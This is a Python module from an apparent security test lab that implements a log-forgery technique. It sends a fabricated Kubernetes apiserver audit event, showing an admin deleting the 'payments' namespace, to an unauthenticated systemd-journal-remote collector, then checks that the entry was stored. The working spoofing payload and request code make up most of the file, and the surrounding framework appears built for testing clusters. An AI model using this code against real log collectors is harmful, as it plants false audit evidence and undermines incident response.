"""Write entries into the collected logs that no machine ever made.

A collector that takes journals by plain HTTP takes them from everybody, and each entry says of
itself from which machine and which service it is. The attacker needs a foothold on the cluster
network, and sends an event in the name of the apiserver: an accusation, or so much noise that the
real traces drown. Client certificates stop strangers, where they are checked: systemd built without
GnuTLS, as Debian's is, does not check them, and a TLS tunnel before the collector does. No
certificate stops a machine that has one from sending entries in the name of another.
"""

from __future__ import annotations

import json
import secrets
import time
from typing import TYPE_CHECKING, Any

from labkit import agents
from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Channel, Foothold, Model, read_model
from labkit.techniques._lib.machines.reach import address_in_lab, attacker, run_from
from labkit.techniques._lib.machines.waiting import wait_for
from labkit.techniques._lib.stores.journal import (
    COLLECTOR,
    MODES,
    PATIENCE,
    STORE,
    UPLOADS,
    collector_has,
    entry_arrives,
    master_of,
)
from labkit.techniques._lib.technique import NETWORK, Prediction, Technique, any_of, holds
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

#: A collector may take entries beside the channel on which the machines send theirs.
STRANGERS = "anyone@network -> systemd-journal-remote@*"
#: What a request must be to be taken at all.
MEDIA = "application/vnd.fdo.journal"
#: How the collector answers when it takes entries.
TAKEN = 202


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the collector asks who sends it entries."""
    found = [*model.open_channels(UPLOADS), *model.open_channels(STRANGERS)]
    if not found:
        return Prediction(False, (f"the model has no channel {UPLOADS}",))
    return any_of(*(holds(it.client_authentication, "none") for it in found))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Send the collector an audit event in the name of the apiserver, and look for it there.

    Raises
    ------
    ProbeTimeout
        The collector took the entry, and does not have it.
    ProbeError
        The answer is neither a success nor a known refusal.
    """
    channel = read_model(lab.environment).open_channels(UPLOADS)[0]
    ident, master = f"labkit-forged-{secrets.token_hex(8)}", master_of(lab.environment)
    # the collector names the file of a sender without a certificate after the sender's address
    file = f"{STORE}/remote-{lab.addresses[attacker(lab)]}.journal"
    asked = f"POST /upload at {channel.server_node}:{channel.port}"
    with leaving(lab, Trace("file", file, COLLECTOR)):
        answer = _send(lab, foothold, channel, _entry(ident, master))
        if answer.get("status") == TAKEN:
            has = (f"_HOSTNAME={master}", "_SYSTEMD_UNIT=kube-apiserver.service")
            missing = "the collector took an entry, and does not have it"
            wait_for(lab, lambda: collector_has(lab, ident, *has), PATIENCE, missing)
            found = (
                f"the collector has an audit event of the apiserver on {master} that it never made"
            )
            reason = f"HTTP {TAKEN}"
            return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (asked, found))
    if answer.get("error") != "alert":
        raise ProbeError(f"{TECHNIQUE.name}: no known refusal", evidence=[str(answer)])
    reason = f"TLS alert: {answer['text']}"
    control = entry_arrives(lab)
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)


def _send(lab: Lab, foothold: Foothold, channel: Channel, entry: str) -> dict[str, Any]:
    """Send an entry, and return the status, or the alert: curl loses it if it comes too early."""
    job = {
        "op": "http",
        "host": address_in_lab(lab, channel.server_node, foothold),
        "port": channel.port,
        "tls": channel.protocol == "https",
        "path": "/upload",
        "method": "POST",
        "headers": {"Content-Type": MEDIA},
        "body": entry,
    }
    jobs = json.dumps({"forge": job}).encode()
    said = run_from(lab, foothold, agents.argv("probe"), stdin=jobs)
    if said.exit_code:
        raise ProbeError(
            f"{TECHNIQUE.name}: nothing was sent", evidence=[said.error.strip()[-200:]]
        )
    found: dict[str, Any] = json.loads(said.stdout)["forge"]
    return found


def _entry(ident: str, machine: str) -> str:
    """Return an entry in systemd's export format: an administrator deletes a namespace."""
    event = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": ident,
        "stage": "ResponseComplete",
        "verb": "delete",
        "user": {"username": "kubernetes-admin", "groups": ["system:masters"]},
        "objectRef": {"resource": "namespaces", "name": "payments", "apiVersion": "v1"},
        "responseStatus": {"code": 200},
    }
    now = time.time_ns() // 1000
    fields = {
        "__REALTIME_TIMESTAMP": now,
        "__MONOTONIC_TIMESTAMP": now,
        "_BOOT_ID": secrets.token_hex(16),
        "_HOSTNAME": machine,
        "_SYSTEMD_UNIT": "kube-apiserver.service",
        "SYSLOG_IDENTIFIER": "kube-apiserver",
        "PRIORITY": 6,
        "MESSAGE": json.dumps(event, separators=(",", ":")),
    }
    return "".join(f"{name}={value}\n" for name, value in fields.items()) + "\n"


TECHNIQUE = Technique(
    name="forge-journal-entries",
    title="Write entries into the collected logs in the name of another machine",
    footholds=(NETWORK,),
    grants=(),
    about=UPLOADS,
    properties=("client_authentication",),
    attack=("T1565.001",),
    stride=("spoofing", "repudiation", "tampering"),
    cwe=("CWE-306", "CWE-345"),
    sources=(
        "https://www.freedesktop.org/software/systemd/man/latest/systemd-journal-remote.service.html",
        "https://systemd.io/JOURNAL_EXPORT_FORMATS/",
        "https://attack.mitre.org/techniques/T1565/001/",
    ),
    predict=predict,
    execute=execute,
    leaves=("file",),
    machines=(COLLECTOR,),
    modes=MODES,
)
